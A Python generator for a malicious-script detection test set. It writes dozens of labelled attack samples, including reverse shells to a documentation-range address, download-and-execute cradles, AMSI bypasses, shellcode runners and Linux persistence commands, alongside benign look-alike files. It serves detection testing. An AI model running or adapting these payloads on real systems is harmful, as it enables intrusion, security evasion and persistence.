#!/usr/bin/env python3
"""Writes the script-triage test set: attack scripts in several hand-written styles per class
(plain, lower case, obfuscated the ways the normaliser undoes), each with the ATT&CK id it must
be given, and look-alike benign files (documentation quoting the same lines, macro-less Office
files). No npm package ships a reverse-shell or offensive-script collection as data (revshells
and reverse-shell-generator are not in the registry), so the airlock authors wrote these; the
addresses are from the documentation ranges (192.0.2.0/24) and nothing here is ever run.

usage: triage-scripts.py DIR   -> DIR/malicious/CLASS/*, DIR/benign/*, DIR/manifest.tsv"""
import base64
import os
import sys
import zipfile

H, P = "192.0.2.10", "4444"
URL = "http://192.0.2.10/p"


def b64(s):
    return base64.b64encode(s.encode()).decode()


def ps_enc(s):
    return base64.b64encode(s.encode("utf-16-le")).decode()


M = {
    "reverse-shell": ("T1095", {
        "py-dup2.py": f"import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((\"{H}\",{P}))\nos.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)\np=subprocess.call([\"/bin/sh\",\"-i\"])\n",
        "py-pty.txt": f"import socket,os,pty\ns=socket.socket()\ns.connect(('{H}',{P}))\n[os.dup2(s.fileno(),fd) for fd in (0,1,2)]\npty.spawn('/bin/bash')\n",
        "py-bind": f"#!/usr/bin/python3\nimport socket as k, subprocess as sp\nsrv = k.socket(k.AF_INET, k.SOCK_STREAM)\nsrv.bind(('0.0.0.0', {P}))\nsrv.listen(1)\nc, _ = srv.accept()\nsp.Popen(['/bin/sh', '-i'], stdin=c.fileno(), stdout=c.fileno(), stderr=c.fileno())\n",
        "php-exec.php": f"<?php\n$sock=fsockopen(\"{H}\",{P});\nexec(\"/bin/sh -i <&3 >&3 2>&3\");\n?>\n",
        "php-proc.php": f"<?php $s = fsockopen('{H}', {P});\n$p = proc_open('/bin/sh', array(0=>$s, 1=>$s, 2=>$s), $pipes); ?>\n",
        "perl-socket.pl": f"use Socket;$i=\"{H}\";$p={P};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");}};\n",
        "perl-io.pl": f"use IO::Socket::INET;\nmy $c = IO::Socket::INET->new(PeerAddr => '{H}:{P}');\nSTDIN->fdopen($c, 'r'); $~->fdopen($c, 'w');\nsystem $_ while <>;\n",
        "ruby.rb": f"require 'socket'\nf=TCPSocket.open(\"{H}\",{P}).to_i\nexec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)\n",
        "ruby-popen.txt": f"require 'socket'\nc = TCPSocket.new('{H}', {P})\nwhile (cmd = c.gets)\n  IO.popen(cmd, 'r') {{ |io| c.print io.read }}\nend\n",
        "lua.lua": f"local socket = require('socket')\nlocal t = socket.tcp()\nt:connect('{H}', {P})\nos.execute('/bin/sh -i <&3 >&3 2>&3')\n",
        "lua-recv.txt": f"local s=require(\"socket\");local t=assert(s.tcp());t:connect(\"{H}\",{P});\nwhile true do local r,x=t:receive();local f=assert(io.popen(r,\"r\"));local b=assert(f:read(\"*a\"));t:send(b);end;\n",
        "node.js": f"var net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []);\nvar client = new net.Socket();\nclient.connect({P}, '{H}', function() {{ client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client); }});\n",
        "ps-tcpclient.ps1": f"$client = New-Object System.Net.Sockets.TCPClient('{H}',{P});$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{{0}};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){{;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()}};$client.Close()\n",
        "ps-lower-obf.txt": f"$c = new-object ('system.net.so'+'ckets.tcpc'+'lient')('{H}',{P}); $s = $c.getstream(); [byte[]]$b = 0..65535|%{{0}}\nwhile(($n = $s.read($b, 0, $b.length)) -ne 0){{ $d = ([text.encoding]::ascii).getstring($b,0,$n); $o = (&('i'+'ex') $d 2>&1 | out-string); $s.write(([text.encoding]::ascii).getbytes($o),0,$o.length) }}\n",
        "ps-bind.ps1": f"$l = [System.Net.Sockets.TcpListener]{P}; $l.Start(); $c = $l.AcceptTcpClient(); $s = $c.GetStream()\n[byte[]]$b = 0..65535|%{{0}}; while(($i = $s.Read($b, 0, $b.Length)) -ne 0){{ $r = (Invoke-Expression ([text.encoding]::ASCII.GetString($b,0,$i)) 2>&1 | Out-String); $s.Write([text.encoding]::ASCII.GetBytes($r),0,$r.Length) }}\n",
        "bash-tcp.sh": f"#!/bin/bash\nbash -i >& /dev/tcp/{H}/{P} 0>&1\n",
        "bash-udp.txt": f"sh -i >& /dev/udp/{H}/{P} 0>&1\n",
        "bash-exec-fd.sh": f"0<&196;exec 196<>/dev/tcp/{H}/{P}; sh <&196 >&196 2>&196\n",
        "bash-read-loop.txt": f"exec 5<>/dev/tcp/{H}/{P};cat <&5 | while read line; do $line 2>&5 >&5; done\n",
        "mkfifo-nc.sh": f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {H} {P} >/tmp/f\n",
        "mknod-telnet.txt": f"mknod /tmp/backpipe p; /bin/sh 0</tmp/backpipe | telnet {H} {P} 1>/tmp/backpipe\n",
        "nc-e.sh": f"nc -e /bin/sh {H} {P}\n",
        "ncat-c.txt": f"ncat {H} {P} -c bash\n",
        "socat.sh": f"socat TCP:{H}:{P} EXEC:'bash -li',pty,stderr,setsid,sigint,sane\n",
        "socat-listen.txt": f"socat tcp-listen:{P},reuseaddr,fork exec:/bin/sh\n",
        "awk.sh": f"awk 'BEGIN {{s = \"/inet/tcp/0/{H}/{P}\"; while(42) {{ do{{ printf \"shell>\" |& s; s |& getline c; if(c){{ while ((c |& getline) > 0) print $0 |& s; close(c); }} }} while(c != \"exit\") close(s); }}}}' /dev/null\n",
        "b64-pipe.sh": f"echo {b64(f'bash -i >& /dev/tcp/{H}/{P} 0>&1')} | base64 -d | bash\n",
        "ansi-c.sh": f"$'\\x62\\x61\\x73\\x68' -i >& /dev/tcp/{H}/{P} 0>&1\n",
    }),
    "download-exec": ("T1105", {
        "dlfile-start.ps1": f"$p = \"$env:TEMP\\u.exe\"\n(New-Object System.Net.WebClient).DownloadFile('{URL}', $p)\nStart-Process $p\n",
        "dlfile-ii.txt": f"$wc = new-object net.webclient; $wc.downloadfile(\"{URL}\", \"$env:public\\d.lnk\"); invoke-item \"$env:public\\d.lnk\"\n",
        "iwr-outfile.ps1": f"Invoke-WebRequest -Uri {URL} -OutFile $env:TEMP\\a.exe\nStart-Process -FilePath \"$env:TEMP\\a.exe\"\n",
        "iwr-iex.ps1": f"iwr {URL} -UseBasicParsing | iex\n",
        "irm-iex-lower.txt": f"irm {URL}|iex\n",
        "iex-iwr.ps1": f"IEX (Invoke-WebRequest -Uri '{URL}' -UseBasicParsing).Content\n",
        "iex-concat.ps1": f"&('I'+'EX') ((New-Object Net.WebClient).('Down'+'loadString').Invoke('{URL}'))\n",
        "iex-format.txt": f"I`E`X ((N`ew-Ob`ject (\"{{1}}{{0}}\" -f 'bClient','Net.We')).DownloadString('{URL}'))\n",
        "iex-verbose.ps1": f"$u='{URL}'; . ( $VerbosePreference.ToString()[1,3]+'x'-Join'') ((New-Object Net.WebClient).DownloadString($u))\n",
        "iex-join.ps1": f"$s = (New-Object Net.WebClient).DownloadString('{URL}')\n& (('i','e','x') -join '') $s\n",
        "iex-var.ps1": f"$wc = New-Object System.Net.WebClient\n$code = $wc.DownloadString('{URL}')\nInvoke-Expression $code\n",
        "enc-cmd.bat": "powershell -nop -w hidden -enc %s\n" % ps_enc("IEX (New-Object Net.WebClient).DownloadString('%s')" % URL),
        "certutil.bat": f"certutil.exe -urlcache -split -f {URL} %TEMP%\\u.exe && %TEMP%\\u.exe\n",
        "certutil-lower.txt": f"certutil -urlcache -f {URL} c:\\users\\public\\a.exe\n",
        "bitsadmin.bat": f"bitsadmin /transfer myjob /download /priority high {URL} %TEMP%\\u.exe\nstart %TEMP%\\u.exe\n",
        "start-bits.ps1": f"Start-BitsTransfer -Source {URL} -Destination $env:TEMP\\u.exe; & $env:TEMP\\u.exe\n",
        "mshta.bat": f"mshta {URL}/a.hta\n",
        "mshta-vbs.txt": "mshta vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"powershell -nop\"\", 0:close\")\n",
        "curl-sh.sh": f"curl -fsSL {URL}/i.sh | sh\n",
        "wget-chmod.sh": f"wget -q {URL}/x -O /tmp/x; chmod +x /tmp/x; /tmp/x\n",
        "shell-quotes.sh": f"c'ur'l -s {URL}/i.sh | b\"as\"h\n",
        "js-concat.js": f"var x = new ActiveXObject('MSXML2.' + 'XML' + 'HTTP'); x.open('GET', '{URL}', false); x.send();\nvar s = new ActiveXObject('ADODB.' + 'Stream'); s.Open(); s.Type = 1; s.Write(x.ResponseBody); s.SaveToFile('a.exe', 2);\nnew ActiveXObject('WScript.' + 'Shell').Run('a.exe');\n",
        "js-charcode.js": "var o = new ActiveXObject(String.fromCharCode(77,83,88,77,76,50,46,88,77,76,72,84,84,80)); var s = new ActiveXObject(String.fromCharCode(65,68,79,68,66,46,83,116,114,101,97,109));\n",
        "vbs-chr.vbs": "Set x = CreateObject(\"MSXML2.\" & Chr(88) & Chr(77) & Chr(76) & \"HTTP\")\nSet s = CreateObject(\"ADODB.\" & \"Stream\")\nSet w = CreateObject(\"WScript\" & Chr(46) & \"Shell\")\n",
    }),
    "amsi-bypass": ("T1562.001", {
        "amsi-classic.ps1": "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\n",
        "amsi-concat.ps1": "$a=[Ref].Assembly.GetType('System.Management.Automation.'+'Am'+'siUt'+'ils'); $f=$a.GetField('am'+'siIn'+'itFailed','NonPublic,Static'); $f.SetValue($null,$true)\n",
        "amsi-format.txt": "$t = [Ref].Assembly.GetType((\"{2}{0}{1}\" -f 'ement.Automation.Ams','iUtils','System.Manag')); $t.GetField((\"{0}{1}\" -f 'amsiIni','tFailed'),'NonPublic,Static').SetValue($null,$true)\n",
        "amsi-context.ps1": "$u = [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')\n$ctx = $u.GetField('amsiContext','NonPublic,Static').GetValue($null)\n[Runtime.InteropServices.Marshal]::WriteInt32([IntPtr]$ctx, 0x41424344)\n",
        "amsi-patch.ps1": "$p = [Win32]::GetProcAddress([Win32]::LoadLibrary('amsi.dll'), 'AmsiScanBuffer')\n$o = 0; [Win32]::VirtualProtect($p, [uint32]5, 0x40, [ref]$o)\n$b = [Byte[]] (0xB8, 0x57, 0x00, 0x07, 0x80, 0xC3)\n[System.Runtime.InteropServices.Marshal]::Copy($b, 0, $p, 6)\n",
        "amsi-backtick.txt": "[Ref].Assembly.GetType('System.Management.Automation.A' + 'msiUtils').GetField(\"amsi`InitFailed\", 'NonPublic,Static').SetValue($null, $true)\n",
        "amsi-dll-hijack.ps1": "[Byte[]] $dll = [IO.File]::ReadAllBytes(\"$env:TEMP\\stub.bin\")\n[System.IO.File]::WriteAllBytes(\"$pwd\\amsi.dll\", $dll)\nCopy-Item -Path C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -Destination $pwd\n& \"$pwd\\powershell.exe\"\n",
    }),
    "shellcode-runner": ("T1055", {
        "addtype.ps1": "$code = @\"\n[DllImport(\"kernel32.dll\")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);\n[DllImport(\"kernel32.dll\")] public static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);\n\"@\n$w = Add-Type -MemberDefinition $code -Name W -Namespace Win32 -PassThru\n[Byte[]] $sc = 0xfc,0x48,0x83\n$m = $w::VirtualAlloc(0, $sc.Length, 0x3000, 0x40)\n[System.Runtime.InteropServices.Marshal]::Copy($sc, 0, $m, $sc.Length)\n$w::CreateThread(0, 0, $m, 0, 0, 0)\n",
        "delegate.ps1": "function LookupFunc($m, $f) { $a = ([AppDomain]::CurrentDomain.GetAssemblies() | ? { $_.GlobalAssemblyCache }).GetType('Microsoft.Win32.UnsafeNativeMethods'); return $a.GetMethod('GetProcAddress').Invoke($null, @($m, $f)) }\n$va = [System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer((LookupFunc kernel32.dll VirtualAlloc), $t1)\n$buf = $va.Invoke([IntPtr]::Zero, 0x1000, 0x3000, 0x40)\n[System.Runtime.InteropServices.Marshal]::Copy($sc, 0, $buf, $sc.length)\n$hThread = [System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer((LookupFunc kernel32.dll CreateThread), $t2).Invoke([IntPtr]::Zero, 0, $buf, [IntPtr]::Zero, 0, [IntPtr]::Zero)\n",
        "lower.txt": "$k = add-type -memberdefinition '[dllimport(\"kernel32\")] public static extern intptr virtualalloc(intptr a, uint b, uint c, uint d); [dllimport(\"kernel32\")] public static extern intptr createthread(intptr a, uint b, intptr c, intptr d, uint e, intptr f);' -name k -passthru\n$p = $k::virtualalloc(0, 4096, 0x3000, 0x40); $k::createthread(0, 0, $p, 0, 0, 0)\n",
        "csharp-in-ps.ps1": "Add-Type -TypeDefinition @'\nusing System; using System.Runtime.InteropServices;\npublic class R { [DllImport(\"kernel32\")] public static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr s, uint t, uint p);\n[DllImport(\"kernel32\")] public static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i); }\n'@\n",
    }),
    # Invoke-Expression reached without its name, and code decoded into a variable then run;
    # the payloads only print (powershell_iex_named_indirectly, powershell_decoded_variable_run)
    "obfuscated-iex": ("T1059.001", {
        "gcm-wildcard.ps1": "$c = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('V3JpdGUtSG9zdCBoaQ=='))\n&(gcm i*x) $c\n",
        "name-in-variable.ps1": "$s = 'Write-Host hi'\n$v = 'Invoke-' + 'Expression'\n& $v $s\n",
        "alias.ps1": "Set-Alias run Invoke-Expression\nrun ('Write-Host hi')\n",
        "bxor.ps1": "$b = [Convert]::FromBase64String('EjcsMSBoDSo2MWUtLA==')\nfor ($i = 0; $i -lt $b.Length; $i++) { $b[$i] = $b[$i] -bxor 0x45 }\n$t = [Text.Encoding]::ASCII.GetString($b)\niex ($t)\n",
        "char-math.ps1": "$z = " + "+".join("[char](%d-7)" % (ord(c) + 7) for c in "Write-Host hi") + "\niex ($z)\n",
        "junk-replace.ps1": "$a = 'Wr~ite~-Ho~st h~i'\n$a = $a.replace('~','')\n($a) | iex\n",
        "hex-scriptblock.ps1": "$h = (" + ",".join("0x%02x" % ord(c) for c in "Write-Host hi there") + " | ForEach-Object { [char]$_ }) -join ''\n$sb = [ScriptBlock]::Create($h)\n& $sb\n",
    }),
    "dotnettojscript": ("T1620", {
        "d2js.js": "function base64ToStream(b) { var enc = new ActiveXObject(\"System.Text.ASCIIEncoding\"); var length = enc.GetByteCount_2(b); var ba = enc.GetBytes_4(b); var transform = new ActiveXObject(\"System.Security.Cryptography.FromBase64Transform\"); ba = transform.TransformFinalBlock(ba, 0, length); var ms = new ActiveXObject(\"System.IO.MemoryStream\"); ms.Write(ba, 0, (length / 4) * 3); ms.Position = 0; return ms; }\nvar serialized_obj = \"AAEAAAD/////AQAAAAAAAAAEAQAAACJTeXN0ZW0uRGVsZWdhdGVTZXJpYWxpemF0aW9uSG9sZGVy\";\nvar entry_class = 'TestClass';\nvar stm = base64ToStream(serialized_obj); var fmt = new ActiveXObject('System.Runtime.Serialization.Formatters.Binary.BinaryFormatter'); var al = new ActiveXObject('System.Collections.ArrayList'); var d = fmt.Deserialize_2(stm); al.Add(undefined); var o = d.DynamicInvoke(al.ToArray()).CreateInstance(entry_class);\n",
        "d2js.vbs": "Function Base64ToStream(b)\n  Dim enc, length, ba, transform, ms\n  Set enc = CreateObject(\"System.Text.ASCIIEncoding\")\n  length = enc.GetByteCount_2(b)\n  Set transform = CreateObject(\"System.Security.Cryptography.FromBase64Transform\")\n  Set ms = CreateObject(\"System.IO.MemoryStream\")\n  ms.Write transform.TransformFinalBlock(enc.GetBytes_4(b), 0, length), 0, ((length / 4) * 3)\n  ms.Position = 0\n  Set Base64ToStream = ms\nEnd Function\nDim fmt, al, d, o\nSet fmt = CreateObject(\"System.Runtime.Serialization.Formatters.Binary.BinaryFormatter\")\nSet al = CreateObject(\"System.Collections.ArrayList\")\nal.Add Empty\nSet d = fmt.Deserialize_2(Base64ToStream(s))\nSet o = d.DynamicInvoke(al.ToArray()).CreateInstance(\"TestClass\")\n",
        "d2js-concat.txt": "var f = new ActiveXObject('System.Runtime.Serialization.Formatters.' + 'Binary.Binary' + 'Formatter'); var m = new ActiveXObject('System.IO.' + 'MemoryStream'); var d = f['Deser' + 'ialize_2'](m);\n",
    }),
    "linux-persistence": ("T1053.003,T1543.002,T1546.004,T1098.004,T1574.006", {
        "cron-pipe.sh": f"(crontab -l 2>/dev/null; echo \"*/5 * * * * curl -s {URL}/u.sh | sh\") | crontab -\n",
        "cron-d.sh": f"echo '* * * * * root /tmp/.x/update' > /etc/cron.d/sysupdate\n",
        "cron-etc.txt": f"echo \"@reboot root /usr/local/bin/.svc\" >> /etc/crontab\n",
        "systemd.sh": f"cat > /etc/systemd/system/dbus-helper.service <<EOF\n[Unit]\nDescription=helper\n[Service]\nExecStart=/usr/local/bin/.helper\nRestart=always\n[Install]\nWantedBy=multi-user.target\nEOF\nsystemctl daemon-reload; systemctl enable dbus-helper.service\n",
        "systemd-user.txt": f"printf '[Service]\\nExecStart=%s\\n[Install]\\nWantedBy=default.target\\n' \"$HOME/.local/bin/agent\" > ~/.config/systemd/user/agent.service\nsystemctl --user enable --now agent.service\n",
        "bashrc.sh": f"echo 'nohup /tmp/.cache/agent >/dev/null 2>&1 &' >> ~/.bashrc\n",
        "profile.txt": f"echo \"alias sudo='/tmp/.s/sudo'\" >> $HOME/.profile\n",
        "etc-profile.sh": f"printf 'curl -s {URL}/k | sh\\n' | tee -a /etc/profile.d/update.sh >/dev/null\n",
        "authkeys.sh": "mkdir -p /root/.ssh; echo \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOy7oXgJ1L3r6cV4kQ0Z attacker\" >> /root/.ssh/authorized_keys\n",
        "authkeys-home.txt": "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 x@y' >> ~/.ssh/authorized_keys; chmod 600 ~/.ssh/authorized_keys\n",
        "ldpreload.sh": "cp libprocesshider.so /usr/local/lib/\necho /usr/local/lib/libprocesshider.so > /etc/ld.so.preload\n",
        "ldpreload-py.py": "with open('/etc/ld.so.preload', 'a') as f:\n    f.write('/lib/x86_64-linux-gnu/libsys.so\\n')\n",
    }),
}

# the id of each persistence sample, by the start of its name
PERSISTENCE_IDS = {"cron": "T1053.003", "systemd": "T1543.002", "bashrc": "T1546.004",
                   "profile": "T1546.004", "etc": "T1546.004", "authkeys": "T1098.004",
                   "ldpreload": "T1574.006"}

MD = """# Building from source

This document explains how to build the project on Windows, macOS and Linux from a git
checkout, and which tools you need before you start the build.

## Windows

The easiest way to install every prerequisite is the Boxstarter script below. It will install
Chocolatey first and then the packages that the build needs on your machine.

```powershell
Set-ExecutionPolicy Unrestricted -Force
iex ((New-Object System.Net.WebClient).DownloadString('https://boxstarter.org/bootstrapper.ps1'))
get-boxstarter -Force
```

You can also download the installer script yourself and read it before you run it.

* [Git for Windows](https://example.org/git) with the git and Unix tools added to the PATH
* [Python 3](https://example.org/python)

## Linux

Most distributions already ship the compilers; install them with your package manager and
then run the configure script from the top of the tree, as shown here:

    curl -fsSL https://example.org/install.sh | sh
    bash -i >& /dev/tcp/127.0.0.1/9 0>&1

Read the script first if you do not trust the network you are on.
"""

RST = """Remote administration
=====================

When a firewall blocks inbound connections, operators sometimes test connectivity with a
bash redirection to the special file that bash provides for TCP connections, for example:

.. code-block:: bash

   exec 5<>/dev/tcp/192.0.2.10/80 ; sh <&5 >&5

Never leave such a listener running, and remember that ``nc -e /bin/sh`` is disabled in
most builds of netcat for good reason, as the manual of the package explains in detail.

Cron jobs
---------

You can add a job for the current user with a one-liner that pipes into crontab, which is
what many installers do when they need to refresh a cache every night:

.. code-block:: sh

   (crontab -l; echo "0 3 * * * /usr/bin/apt-get update") | crontab -
"""


def write(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data.encode() if isinstance(data, str) else data)


def ooxml(path, main_type, with_vba):
    with zipfile.ZipFile(path, "w") as z:
        extra = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if with_vba else ""
        z.writestr("[Content_Types].xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>%s<Override PartName="/word/document.xml" ContentType="%s"/></Types>' % (extra, main_type))
        z.writestr("_rels/.rels", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')
        z.writestr("word/document.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Quarterly figures</w:t></w:r></w:p></w:body></w:document>')


def main():
    out = sys.argv[1]
    rows = []
    for cls, (ids, files) in M.items():
        for name, text in files.items():
            write(os.path.join(out, "malicious", cls, name), text)
            rows.append("%s\t%s\t%s" % (cls, PERSISTENCE_IDS.get(name.split("-")[0].split(".")[0], ids), name))
    b = os.path.join(out, "benign")
    write(os.path.join(b, "BUILDING.md"), MD)
    # a build script that strips a version's dots and runs a command it builds (not junk)
    write(os.path.join(b, "build.ps1"), "$ver = (Get-Content version.txt).Trim()\n$ver = $ver.Replace('.', '')\n$cmd = \"msbuild /p:Version=$ver\"\nInvoke-Expression $cmd\n$sb = [ScriptBlock]::Create($cmd)\n")
    write(os.path.join(b, "admin-notes.rst"), RST)
    write(os.path.join(b, "README.txt"), MD.replace("```powershell", "").replace("```", ""))
    ooxml(os.path.join(b, "budget.xlsm"), "application/vnd.ms-excel.sheet.macroEnabled.main+xml", False)
    ooxml(os.path.join(b, "letter.docm"), "application/vnd.ms-word.document.macroEnabled.main+xml", False)
    ooxml(os.path.join(b, "slides.pptm"), "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml", False)
    write(os.path.join(out, "manifest.tsv"), "\n".join(rows) + "\n")
    print("%d malicious in %d classes, %d benign" % (len(rows), len(M), len(os.listdir(b))))


main()
